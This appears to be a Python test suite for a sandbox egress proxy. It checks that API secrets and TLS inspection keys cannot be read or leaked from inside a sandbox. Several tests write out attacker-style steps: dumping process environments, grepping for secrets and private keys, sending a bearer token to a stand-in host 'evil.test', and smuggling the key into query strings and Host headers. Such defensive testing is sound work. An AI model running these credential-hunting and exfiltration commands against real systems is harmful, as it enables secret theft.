"""Attacks on what must not come in: the values of secrets (E33), the keys of inspection's certificates (E35)."""
import json
import re
import subprocess
import unittest

import attack
from attack import world

LISTED = {"allowOut": ["a.test", "*.b.test", "evil.test"], "denyOut": ["0.0.0.0/0"]}
INSPECTED = LISTED | {"rules": {"a.test": [{"transform": {"headers": {"X-Rule": "here"}}}]}}
VALUE = "sk-value-5c1f9e0b7d6a4c3e8f21"


def setUpModule():
    attack.begin()


class Secrets(attack.Case):
    def secret(self, name, hosts):
        answer = attack.site.api("POST", "/secrets",
                                 {"name": name, "value": VALUE, "metadata": {"sandglass.hosts": hosts}})
        self.assertIn(answer.status, (200, 201), answer)
        self.addCleanup(attack.site.api, "DELETE", f"/secrets/{name}")

    def sandboxed(self, user):
        name = f"key-{user}-{self.id().rpartition('.')[2].lower()[-20:].replace('_', '-')}"
        self.secret(name, "a.test")
        return self.sandbox(network=LISTED, envVars={"API_KEY": f"${{e2b.secrets.{name}}}"})

    def heads(self, seen, address):
        return "".join(r["head"] for r in seen.requests(local=address))

    def test_E33_the_value_is_never_inside(self, user):
        sandbox = self.sandboxed(user)
        out = self.sh(sandbox, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; "
                      f"grep -rlaF {VALUE[:12]} /proc/*/environ /proc/*/cmdline /etc /home /root /run /tmp /var "
                      f"2>/dev/null; "
                      "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" https://a.test/reflect; "
                      "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" "
                      "https://a.test/reflect/authorization/pieces; "
                      "curl -sS -m10 -D - -H \"X-Api-Key: $API_KEY\" http://a.test/reflect/x-api-key/header; true",
                      user)
        self.assertNotIn(VALUE, out)
        self.assertRegex(out, r"API_KEY=sgph_[0-9a-f]{32}")
        self.assertIn(VALUE, self.heads(self.before, world.A), "the host has it")

    def reflected(self, sandbox, where, user, *options):
        """(status, what came: head and body)"""
        out = self.sh(sandbox, f"curl -sS -m20 -i -w '\\n%{{http_code}}' -H \"Authorization: Bearer $API_KEY\" "
                      f"{' '.join(options)} https://a.test/reflect/authorization/{where}", user)
        body, _, status = out.rpartition("\n")
        return int(status), body

    def test_E33_not_in_parts(self, user):
        """A host that gives halves of what it echoes: no half is asked for, and none is passed on."""
        sandbox = self.sandboxed(user)
        end = len("Bearer ") + len(VALUE) - 1
        for ranges in (f"-r 0-{end // 2}", f"-r {end // 2 + 1}-{end}", f"-r 0-{end // 2},{end // 2 + 1}-{end}",
                       f"-r 0-9 -H 'If-Range: x'", f"-H 'Request-Range: bytes=0-{end // 2}'"):
            status, said = self.reflected(sandbox, "range", user, ranges)
            self.assertEqual(status, 200, said)
            self.assertIn("*" * len(VALUE), said)
        for where in ("unasked", "several"):
            status, said = self.reflected(sandbox, where, user)
            self.assertEqual(status, 502, said)
            self.assertIn("sandglass: ", said)
        heads = self.heads(self.before, world.A)
        self.assertIn(VALUE, heads, "the host has it")
        self.assertNotIn("range", heads.lower().replace("/reflect/authorization/range", ""))

    def test_E33_not_around_the_body(self, user):
        """Names of headers, whatever their case; the reason; trailers and extensions of chunks."""
        sandbox = self.sandboxed(user)
        for where in ("name", "reason", "trailer"):
            status, said = self.reflected(sandbox, where, user)
            self.assertEqual(status, 200, said)
            self.assertNotIn(VALUE.lower(), said.lower(), where)

    def test_E33_not_as_hosts_write_it(self, user):
        """Base64 in lines, JSON, HTML, capitals, hex, UTF-16, cut short."""
        sandbox = self.sandboxed(user)
        status, said = self.reflected(sandbox, "written", user)
        self.assertEqual(status, 200, said)
        body = said.partition("\r\n\r\n")[2] or said.partition("\n\n")[2]
        # What is left are beginnings and ends: characters of base64 that the neighbours have a part in.
        left = [word for word in re.split(r"[*\s]+", body.replace("\0", "")) if len(word) > 6]
        self.assertEqual(left, [], body)
        self.assertGreater(body.count("*"), 30 * len(VALUE))

    def test_E33_not_later(self, user):
        """A host that keeps what it got, and tells it to a request without the secret, on another connection."""
        sandbox = self.sandboxed(user)
        self.assertEqual(self.reflected(sandbox, "keep", user)[0], 200)
        out = self.sh(sandbox, "curl -sS -m20 https://a.test/reflect/authorization/kept; "
                      "curl -sS -m20 -r 0-20 https://a.test/reflect/authorization/kept", user)
        self.assertEqual(out, 2 * ("Bearer " + "*" * len(VALUE)))

    def test_E33_others_get_the_placeholder(self, user):
        sandbox = self.sandboxed(user)
        trust = sandbox.trust()
        self.sh(sandbox, f"{trust}; curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" https://evil.test/who; "
                "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" http://evil.test/who; "
                "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" http://x.b.test/who", user)
        for address in (world.EVIL, world.B):
            heads = self.heads(self.before, address)
            self.assertIn("sgph_", heads)
            self.assertNotIn(VALUE, heads)

    def test_E33_only_where_it_belongs(self, user):
        """Not in the target, not in the body, not in other headers; not by a host that is only said."""
        sandbox = self.sandboxed(user)
        code = """
fake, key = resolve("a.test")[1][0], os.environ["API_KEY"]
evil = resolve("evil.test")[1][0]
head = (f"GET /who?k={key} HTTP/1.1\\r\\nHost: %s\\r\\nX-Other: {key}\\r\\n"
        f"Authorization: Bearer {key}\\r\\nConnection: close\\r\\n\\r\\n")
body = f"POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: {len(key)}\\r\\nConnection: close\\r\\n\\r\\n{key}"
show([attempt(tcp, host, 80, (text % name if "%s" in text else text).encode())
      for host in (fake, evil, "198.41.0.4") for name in ("a.test", "evil.test") for text in (head, body)])
"""
        answers = self.probe(sandbox, code, user)
        self.assertNotIn(VALUE, "".join(answers))
        heads = self.heads(self.before, world.A)
        self.assertIn(f"Authorization: Bearer {VALUE}".lower(), heads.lower())
        for line in heads.splitlines():
            if VALUE in line:
                self.assertTrue(line.lower().startswith("authorization:"), line)
        self.assertNotIn(VALUE, self.heads(self.before,
                                           world.EVIL) + "".join(line["text"] for line in self.before.lines("web",
                                                                                                            "body")))
        self.on_record(sandbox, kind="secret")
        self.assertNotIn(VALUE, json.dumps(attack.records(sandbox)))

    def test_E33_not_in_the_servers_files_and_logs(self):
        sandbox = self.sandboxed("user")
        sandbox.sh("curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" https://a.test/who >/dev/null")
        with open(attack.site.log, errors="replace") as f:
            self.assertNotIn(VALUE, f.read())
        status, out = attack.site.command("audit", "query", "--state", attack.site.state, "--json")
        self.assertNotIn(VALUE, out)
        grep = subprocess.run(["grep", "-rlaF", VALUE, attack.site.state], capture_output=True, text=True)
        self.assertEqual(grep.stdout, "")
        for what in (f"/sandboxes/{sandbox.id}", "/v2/sandboxes", "/secrets"):
            self.assertNotIn(VALUE, str(attack.site.api("GET", what).body))


class Certificates(attack.Case):
    BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
    BESIDE = "/usr/local/share/ca-certificates/sandglass-egress.crt"

    def test_E35_no_key_is_inside(self, user):
        sandbox = self.sandbox(network=INSPECTED)
        out = self.sh(sandbox, f"test -s {self.BESIDE} && find / -xdev \\( -name '*.key' -o -name '*.pem' -o -name "
                           f"'*.crt' \\) -newer /proc/1/cmdline "
                      "2>/dev/null; grep -rla 'PRIVATE KEY' /etc /run /home /root /tmp /var /usr/local 2>/dev/null; "
                      "true", user)
        self.assertEqual([line for line in out.splitlines() if "key" in line.lower()], [])

    def test_E35_a_neighbours_certificate_is_worth_nothing(self, user):
        sandbox, other = self.sandbox(network=INSPECTED), self.sandbox(network=INSPECTED)
        theirs = other.get(self.BESIDE).body
        self.assertIn(b"BEGIN CERTIFICATE", theirs)
        sandbox.put("/tmp/theirs.pem", theirs)
        self.assertIn('"x-rule"', self.sh(sandbox, "curl -sS -m10 https://a.test/who", user).lower())
        code = """
fake = resolve("a.test")[1][0]
show([attempt(https, fake, "a.test", context=ssl.create_default_context(cafile=path)) for path in sys.argv[1:]])
"""
        good, bad = self.probe(sandbox, code, user, self.BESIDE, "/tmp/theirs.pem")
        self.assertIn('"who": "a"', good)
        self.assertEqual(bad, "SSL CERTIFICATE_VERIFY_FAILED")

    def test_E35_only_names_of_rules_are_signed(self, user):
        sandbox = self.sandbox(network=INSPECTED)
        text = self.sh(sandbox, f"openssl x509 -in {self.BESIDE} -noout -text", user)
        self.assertIn("DNS:a.test", text)
        self.assertIn("X509v3 Name Constraints: critical", text)
        for name, issuer in (("a.test", "sandglass"), ("x.b.test", "Test bed root"), ("evil.test", "Test bed root")):
            out = sandbox.sh(f"echo | timeout 10 openssl s_client -connect {name}:443 -servername {name} 2>/dev/null | "
                             "openssl x509 -noout -issuer", user=user)[1]
            self.assertIn(issuer.lower(), out.lower(), name)

    def test_E35_servers_that_are_not_who_they_say(self, user):
        """Inspection does not make a bad certificate a good one."""
        names = ["expired.test", "wrong.test", "stranger.test", "self.test"]
        rule = [{"transform": {"headers": {"Authorization": "Bearer x"}}}]
        sandbox = self.sandbox(network={"allowOut": names, "denyOut": ["0.0.0.0/0"], "rules": {n: rule for n in names}})
        for name in names:
            out = sandbox.sh(f"curl -sS -m10 -o /dev/null -w '%{{http_code}}' https://{name}/who", user=user)[1]
            self.assertIn("502", out, name)
        self.assertEqual([r for r in self.before.requests(local=world.A)], [], "nothing was told to them")

    def test_E35_another_host_inside_tls(self, user):
        """The name in TLS and the name in the request are the same, in each request."""
        sandbox = self.sandbox(network=INSPECTED)
        code = """
context = ssl.create_default_context()
fake = resolve("a.test")[1][0]
def two(second):
    with connect(fake, 443) as s, context.wrap_socket(s, server_hostname="a.test") as t:
        t.sendall(b"GET /who HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n")
        t.sendall(f"GET /who HTTP/1.1\\r\\nHost: {second}\\r\\nConnection: close\\r\\n\\r\\n".encode())
        return rest(t)
show([attempt(https, fake, "a.test", name, 443, context) for name in ("evil.test", "x.b.test", "a.test:80")] +
     [attempt(two, name) for name in ("evil.test", "www.a.test", "a.test")])
"""
        *ones, evil, www, good = self.probe(sandbox, code, user)
        self.assertEqual([o.split()[1] for o in ones], ["421", "421", "421"])
        for answer in (evil, www):
            self.assertTrue("HTTP/1.1 421" in answer and answer.count('"who"') == 1, answer)
        self.assertEqual(good.count('"who": "a"'), 2)
        self.assertEqual({dict(r["headers"])["Host"] for r in self.before.requests(local=world.A)}, {"a.test"})


if __name__ == "__main__":
    unittest.main()
